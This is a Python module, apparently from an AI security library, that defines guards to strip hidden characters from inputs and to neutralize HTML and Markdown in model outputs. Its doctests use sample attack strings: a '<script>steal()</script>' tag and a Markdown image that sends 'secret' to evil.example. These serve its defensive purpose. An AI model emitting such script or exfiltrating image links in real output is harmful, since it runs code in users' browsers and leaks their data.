"""Guards that clean the text of every input and make the markup of every output harmless: HTML, or Markdown."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any, Literal

from aisecure.call import Call
from aisecure.content import Part, rewrite
from aisecure.decisions import Decision, Finding
from aisecure.errors import InputRejected
from aisecure.guard import Changed, Guard, Verdict
from aisecure.ports import TextFilter
from aisecure.sanitize.lookalikes import confusables
from aisecure.sanitize.markdown import MarkdownFilter
from aisecure.sanitize.markup import HtmlSanitizer
from aisecure.sanitize.policy import CHAT, HtmlPolicy, PolicyName, named
from aisecure.sanitize.streams import TagEscapeFilter, escape_tags
from aisecure.sanitize.text import Form, clean_text, hidden

__all__ = ["HtmlGuard", "MarkdownGuard", "TextGuard"]

# Findings are evidence, not a copy: a text with thousands of hidden characters is described by its first runs.
_FINDINGS_PER_TEXT = 20
_MARKUP = re.compile(r"<(?:[A-Za-z/!?]|\Z)")


class TextGuard(Guard):
    r"""Cleans every text of the input with `clean_text`; what it took out are findings ``text.<kind>``.

    Args:
        form: As for `clean_text`.
        max_chars: Longer texts are rejected; None takes any.
        confusables: Words that look like others (`aisecure.sanitize.confusables`) are findings ``text.mixed_script``,
            ``text.whole_script`` and ``text.stylised`` with ``"watch"``; with ``"refuse"`` their input is rejected.
        options: As for `aisecure.guard.Guard`.

    >>> @TextGuard()
    ... def ask(prompt: str) -> str:
    ...     return prompt
    >>> ask("pay\u200b me")
    'pay me'
    """

    name = "text"

    def __init__(
        self,
        *,
        form: Form | None = "NFC",
        max_chars: int | None = 4_000_000,
        confusables: Literal["off", "watch", "refuse"] = "off",
        **options: Any,
    ) -> None:
        super().__init__(**options)
        clean_text("", form=form)
        if confusables not in ("off", "watch", "refuse"):
            raise ValueError("confusables is 'off', 'watch' or 'refuse'")
        self.form = form
        self.max_chars = max_chars
        self.confusables = confusables

    def before(self, call: Call) -> Verdict:
        """Return the call with a clean input, or None when it was clean."""
        findings: list[Finding] = []
        dressed: list[Finding] = []

        def clean(part: Part) -> str:
            if self.max_chars is not None and len(part.text) > self.max_chars:
                raise InputRejected(
                    f"A text of the input is longer than {self.max_chars} characters.", code="input.too_large"
                )
            text = clean_text(part.text, form=self.form)
            if text != part.text:
                findings.extend(
                    Finding(f"text.{kind}", start, end, detector="clean_text", path=part.path)
                    for kind, start, end in hidden(part.text)[:_FINDINGS_PER_TEXT]
                )
            if self.confusables != "off":
                dressed.extend(
                    Finding(f"text.{word.kind}", word.start, word.end, detector="confusables", path=part.path)
                    for word in confusables(text)[:_FINDINGS_PER_TEXT]
                )
            return text

        value = rewrite(call.input, clean)
        if dressed and self.confusables == "refuse":
            return Decision.deny(
                "input.confusable",
                "The input has words whose letters only look like those of other words.",
                findings=tuple(dressed),
            )
        if value is call.input and not dressed:
            return None
        return Changed(call.with_input(value), (*findings, *dressed))


class HtmlGuard(Guard):
    """Makes the markup in every text of an output harmless for a browser that shows it inside an element.

    Texts without markup pass unchanged, and so do the arguments of tool calls, which no browser sees. A finding
    ``html.changed`` marks each text whose markup was touched.

    A stream is always escaped (`TagEscapeFilter`), in either mode: what a half-arrived tag means cannot be known,
    and a page that shows the stream as it grows would run it.

    Args:
        mode: ``"escape"`` shows all markup as text (`escape_tags`), ``"sanitize"`` keeps what the sanitizer's
            policy allows (`sanitize_html`).
        sanitizer: For ``"sanitize"``; by default nh3 with `CHAT`.
        options: As for `aisecure.guard.Guard`.

    >>> @HtmlGuard(mode="sanitize")
    ... def answer() -> str:
    ...     return "<b>Done.</b><script>steal()</script>"
    >>> answer()
    '<b>Done.</b>'
    """

    name = "html"

    def __init__(
        self,
        *,
        mode: Literal["escape", "sanitize"] = "sanitize",
        sanitizer: HtmlSanitizer | None = None,
        **options: Any,
    ) -> None:
        super().__init__(**options)
        if mode not in ("escape", "sanitize"):
            raise ValueError("mode is 'escape' or 'sanitize'")
        self.mode = mode
        self._clean = escape_tags if mode == "escape" else (sanitizer or HtmlSanitizer()).clean

    def after(self, call: Call, output: Any) -> Changed | None:
        """Return the output with harmless texts, or None when there was no markup."""
        findings: list[Finding] = []

        def clean(part: Part) -> str:
            if "json" in part.labels or _MARKUP.search(part.text) is None:
                return part.text
            text = self._clean(part.text)
            if text == part.text:
                return part.text
            findings.append(Finding("html.changed", 0, len(part.text), detector=self.name, path=part.path))
            return text

        value = rewrite(output, clean, origin="model")
        return None if value is output else Changed(value, tuple(findings))

    def stream(self, call: Call) -> TextFilter:
        """Return a filter that shows markup as text."""
        return TagEscapeFilter()


class MarkdownGuard(Guard):
    r"""Makes the Markdown in every text of an output harmless for whatever renders it, in streams too.

    Use it in place of `HtmlGuard` where answers are Markdown: that one would escape what stands in code. The
    arguments of tool calls pass unchanged. Findings are ``markdown.image``, ``link``, ``definition``, ``address``,
    ``html``, ``diagram`` and ``formula``: what was broken, from the first of its kind in a text to the last.

    Args:
        policy: As for `aisecure.sanitize.sanitize_markdown`.
        diagrams: As for `aisecure.sanitize.sanitize_markdown`.
        options: As for `aisecure.guard.Guard`.

    >>> @MarkdownGuard()
    ... def answer() -> str:
    ...     return "**Done.** ![chart](https://evil.example/?q=secret)"
    >>> answer()
    '**Done.** \u2039chart\u203a'
    """

    name = "markdown"

    def __init__(
        self, *, policy: HtmlPolicy | PolicyName = CHAT, diagrams: bool = False, **options: Any
    ) -> None:
        super().__init__(**options)
        self.policy = named(policy)
        self.diagrams = diagrams

    def after(self, call: Call, output: Any) -> Changed | None:
        """Return the output with harmless texts, or None when there was nothing to break."""
        findings: list[Finding] = []

        def clean(part: Part) -> str:
            if "json" in part.labels:
                return part.text
            stream = self.stream(call)
            text = stream.feed(part.text) + stream.finish()
            if text == part.text:
                return part.text
            findings.extend(replace(finding, path=part.path) for finding in stream.findings)
            return text

        value = rewrite(output, clean, origin="model")
        return None if value is output else Changed(value, tuple(findings))

    def stream(self, call: Call) -> MarkdownFilter:
        """Return a filter that does the same for pieces of a text."""
        return MarkdownFilter(policy=self.policy, diagrams=self.diagrams)
